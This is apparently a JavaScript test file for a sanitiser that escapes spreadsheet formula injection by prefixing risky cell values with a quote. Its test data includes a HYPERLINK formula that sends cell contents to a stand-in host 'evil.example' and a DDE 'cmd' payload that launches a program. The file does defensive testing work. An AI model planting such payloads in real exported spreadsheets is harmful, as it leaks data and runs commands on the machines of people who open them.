import { harmlessCells } from './harmlessCells.js';

it.each([
  '=HYPERLINK("https://evil.example?"&A1)',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\n=1+1',
])('makes text of %j, which a spreadsheet would calculate', (text) => {
  expect(harmlessCells(text)).toBe(`'${text}`);
});

it.each(['Ada', "O'Neill", '', 'a=b', '+12025550100', '-4', '-4.50', 12, -4, true, null, undefined])(
  'leaves %j as it is',
  (value) => {
    expect(harmlessCells(value)).toBe(value);
  },
);

it('looks into lists, records and the names of their fields', () => {
  expect(harmlessCells({ name: '=1', at: 1, changes: [{ after: '@x' }], '=evil': 'a' })).toEqual({
    name: "'=1",
    at: 1,
    changes: [{ after: "'@x" }],
    "'=evil": 'a',
  });
});
